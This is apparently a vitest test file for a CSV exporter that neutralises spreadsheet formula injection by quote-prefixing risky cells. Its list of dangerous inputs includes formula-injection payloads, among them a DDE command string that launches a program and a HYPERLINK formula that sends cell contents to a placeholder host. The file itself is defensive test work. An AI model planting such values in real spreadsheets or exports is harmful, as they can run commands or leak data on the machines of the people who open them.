import { describe, expect, it } from "vitest";
import { csvRows } from "./csv-rows.ts";
import { csvCell } from "./formula-safe.ts";

/** What spreadsheets take for a formula, or cut off until one is left. */
const DANGEROUS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\0=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "﹢1",
  "−1",
  " =1",
  "   @SUM(1)",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\u202e=1",
  "\u3164+1",
  "\u0085=1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"x")',
  "\tplain",
  "\0plain",
];

const HARMLESS = ["", "plain", "a=b", "'=1", "arn:aws:iam::1:user/x", "a\nb", 'say "x"', "a,b", "#1", "10.0.0.0/8"];

describe("a cell", () => {
  it.each(DANGEROUS)("that could be a formula begins with a quote: %j", (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  it.each(HARMLESS)("that cannot is left as it is: %j", (text) => {
    expect(csvCell(text)).toBe(text);
  });

  it("holds numbers and booleans of ours as they are, and nothing for null", () => {
    expect([-1, 0.5, true, null].map(csvCell)).toEqual(["-1", "0.5", "true", ""]);
  });
});

/** RFC 4180, read by nothing but its rules. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  for (let match = pattern.exec(text); match !== null; match = pattern.exec(text)) {
    rows.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") rows.push([]);
    if (match[3] === "" || pattern.lastIndex === text.length) break;
  }
  return rows.filter((row) => row.length > 0);
}

describe("rows", () => {
  it("come back cell by cell, whatever they hold", () => {
    const rows = [...DANGEROUS, ...HARMLESS].map((text) => [text, "x", text]);
    expect(parseCsv(csvRows(rows))).toEqual(rows.map((row) => row.map(csvCell)));
  });

  it("end with CRLF, and none are no text", () => {
    expect(csvRows([["a", 1]])).toBe("a,1\r\n");
    expect(csvRows([])).toBe("");
  });
});
